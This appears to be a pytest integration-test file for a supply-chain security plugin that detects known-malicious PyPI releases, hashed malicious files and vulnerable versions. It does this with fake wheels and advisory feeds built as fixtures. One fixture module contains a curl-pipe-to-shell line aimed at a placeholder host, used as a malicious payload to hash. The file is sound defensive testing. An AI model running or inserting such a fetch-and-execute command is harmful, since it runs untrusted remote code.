"""Known-bad releases and files as users meet them: real venvs, real wheels, pip installs.

Wheels are named and versioned like the real incidents. The lock in each test
is made *after* the bad release was installed (the case the issue is about:
a lock pins whatever was installed, the malicious release included).
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from pytest_mlsupply.hashing import hash_bytes
from pytest_mlsupply.plugin import NOT_COLLECTED_NOTE

from gatehelpers import findings, gate, only_problem
from wheelfactory import build_wheel

pytestmark = pytest.mark.slow


def lock(venv, project: Path) -> None:
    """Lock with the command line (``--mlsupply-update-lock`` would already fail the run)."""
    result = venv.run("-m", "pytest_mlsupply", "lock", cwd=project)
    assert result.returncode == 0, result.stdout + result.stderr


def _install(venv, folder: Path, name: str, version: str, files=None) -> None:
    build_wheel(folder, name, version, files)
    venv.install(f"{name}=={version}", extra=("--find-links", str(folder)))


def test_litellm_1_82_8_is_gated_by_the_builtin_list_alone(venv, project, tmp_path):
    index = tmp_path / "index"
    _install(venv, index, "litellm", "1.82.6")
    lock(venv, project)
    result = gate(venv, project)
    assert result.returncode == 0, result.stdout
    assert findings(project, "error") == []
    assert "known-bad: 6 built-in records (list dated 2026-11-25)" in result.stdout

    _install(venv, index, "litellm", "1.82.8")
    lock(venv, project)  # locked after the malicious release: the lock pins it
    refreshed = venv.run("-m", "pytest", "--mlsupply-update-lock", cwd=project)
    assert refreshed.returncode == 1  # refreshing the lock does not accept it either
    result = gate(venv, project)
    assert result.returncode == 1
    problem = only_problem(project)
    assert problem["kind"] == "known-bad-package"
    assert problem["subject"] == "litellm"
    assert "MAL-2026-2144, PYSEC-2026-2, GHSA-92x9-889m-jgmw" in problem["message"]
    assert "litellm 1.82.8 is a known-bad release" in result.stdout
    assert NOT_COLLECTED_NOTE in result.stdout
    assert "Traceback" not in result.stdout + result.stderr

    # The advisory ids travel as data, and a waiver naming one accepts the finding.
    assert problem["advisories"] == ["MAL-2026-2144", "PYSEC-2026-2", "GHSA-92x9-889m-jgmw"]
    waivers = project / "waivers.toml"
    waivers.write_text(
        '[[waiver]]\nmatch = "GHSA-92x9-889m-jgmw"\nreason = "quarantined, no credentials"\n'
        "expires = 2099-01-01\n"
    )
    waived = gate(venv, project, "--mlsupply-waivers", str(waivers))
    assert waived.returncode == 0, waived.stdout
    assert "WAIVED ERROR [known-bad-package] litellm 1.82.8" in waived.stdout


def test_range_record_matches_inside_its_range_not_at_fixed(venv, project, tmp_path):
    feed = project / "feed"  # feeds inside the rootdir: pytest guesses rootdir from path args
    feed.mkdir()
    record = {
        "id": "TEST-2026-7",
        "modified": "2026-05-03T10:00:00Z",
        "summary": "Malicious code in demo-model (PyPI)",
        "database_specific": {"malicious-packages-origins": [{"source": "test"}]},
        "affected": [
            {
                "package": {"ecosystem": "PyPI", "name": "Demo_Model"},
                "ranges": [
                    {"type": "ECOSYSTEM", "events": [{"fixed": "2.3"}, {"introduced": "2.0"}]}
                ],
            }
        ],
    }
    (feed / "TEST-2026-7.json").write_text(json.dumps(record))
    index = tmp_path / "index"
    _install(venv, index, "demo-model", "2.1")
    lock(venv, project)
    result = gate(venv, project, "--mlsupply-known-bad", "feed")
    assert result.returncode == 1, result.stdout + result.stderr
    problem = only_problem(project)
    assert (problem["kind"], problem["subject"]) == ("known-bad-package", "demo-model")
    assert "TEST-2026-7" in problem["message"]
    assert "1 record from" in result.stdout and "newest modified 2026-05-03" in result.stdout

    _install(venv, index, "demo-model", "2.3")
    lock(venv, project)
    result = gate(venv, project, "--mlsupply-known-bad", "feed")
    assert result.returncode == 0, result.stdout
    assert findings(project, "error") == []


def test_hash_list_flags_the_one_installed_file_and_bad_feeds_are_errors(venv, project, tmp_path):
    payload = "import os\nos.system('curl example.invalid | sh')\n"
    files = {
        "helper_pkg/__init__.py": "VERSION = '1.0'\n",
        "helper_pkg/_loader.py": payload,
    }
    _install(venv, tmp_path / "index", "helper-pkg", "1.0", files)
    lock(venv, project)
    hashes = project / "iocs.sha256"
    hashes.write_text(
        f"# from an incident write-up\n{hash_bytes(payload.encode()).hex}  _loader.py\n"
    )
    broken = project / "broken.json"
    broken.write_text('{"id": "X", "affected": [}')
    result = gate(
        venv,
        project,
        "--mlsupply-known-bad",
        broken.name,
        "--mlsupply-known-bad",
        hashes.name,
    )
    assert result.returncode == 1
    errors = findings(project, "error")
    assert sorted(f["kind"] for f in errors) == ["known-bad-feed", "known-bad-file"]
    [bad_file] = [f for f in errors if f["kind"] == "known-bad-file"]
    assert bad_file["location"].endswith("helper_pkg/_loader.py")
    assert bad_file["subject"] == "helper-pkg"
    [bad_feed] = [f for f in errors if f["kind"] == "known-bad-feed"]
    assert "broken.json, line 1: not valid JSON" in bad_feed["message"]
    assert "Traceback" not in result.stdout + result.stderr


def test_warm_run_reads_the_compiled_index_from_the_cache(venv, project, realdata):
    feed = realdata / "osv-malicious-pypi" / "ossf"  # JSON: the venv has no PyYAML
    (project / "pytest.ini").write_text(f"[pytest]\nmlsupply_known_bad = {feed}\n")
    lock(venv, project)
    args = ("-m", "pytest", "--mlsupply")
    first = venv.run(*args, cwd=project)
    assert first.returncode == 0, first.stdout
    second = venv.run(*args, cwd=project)
    assert second.returncode == 0, second.stdout
    assert "compiled index from the cache" in second.stdout
    assert "20 records (5 withdrawn)" in second.stdout


VULNERABLE_ASSETS = Path(__file__).parent / "assets" / "known_bad" / "vulnerable"


def test_a_vulnerable_release_warns_and_a_malicious_one_stops_the_run(venv, project, tmp_path):
    """Real pip installs of a release a GHSA record calls vulnerable (CVSS 8.8) and of one a
    GHSA malware record (CWE-506) names; the malicious one's import payload must not run."""
    feed = project / "feed"
    feed.mkdir()
    for name in ("GHSA-2c4m-9vq6-8x3p.json", "GHSA-8p3x-5cvh-q4wm.json"):
        (feed / name).write_text((VULNERABLE_ASSETS / name).read_text())
    index = tmp_path / "index"
    _install(venv, index, "demo-tokenizer", "2.3.0")
    lock(venv, project)
    result = gate(venv, project, "--mlsupply-known-bad", "feed")
    assert result.returncode == 0, result.stdout + result.stderr
    problem = only_problem(project)
    assert (problem["kind"], problem["severity"]) == ("vulnerable", "warning")
    assert problem["message"].startswith(
        "demo-tokenizer 2.3.0 is vulnerable (GHSA-2c4m-9vq6-8x3p, CVE-2026-90001; CVSS 8.8 high)"
    )
    assert problem["hint"] == "upgrade to 2.4.1 (fixed in 2.4.1, 3.1.2)"
    failed = gate(venv, project, "--mlsupply-known-bad", "feed", "--mlsupply-fail-on-cvss", "7")
    assert failed.returncode == 1, failed.stdout

    marker = tmp_path / "payload-ran"
    payload = f"import pathlib\npathlib.Path({str(marker)!r}).write_text('ran')\n"
    _install(venv, index, "demo-evil", "1.0", {"demo_evil.py": payload})
    lock(venv, project)  # locked after the malicious release: the lock pins it
    (project / "test_evil.py").write_text("import demo_evil\n\ndef test_x():\n    pass\n")
    result = gate(venv, project, "--mlsupply-known-bad", "feed", "--mlsupply-vulnerabilities=off")
    assert result.returncode == 1, result.stdout
    [error] = findings(project, "error")
    assert (error["kind"], error["subject"]) == ("known-bad-package", "demo-evil")
    assert "treat credentials this environment could read as exposed" in error["hint"]
    assert not marker.exists()
    assert "Traceback" not in result.stdout + result.stderr
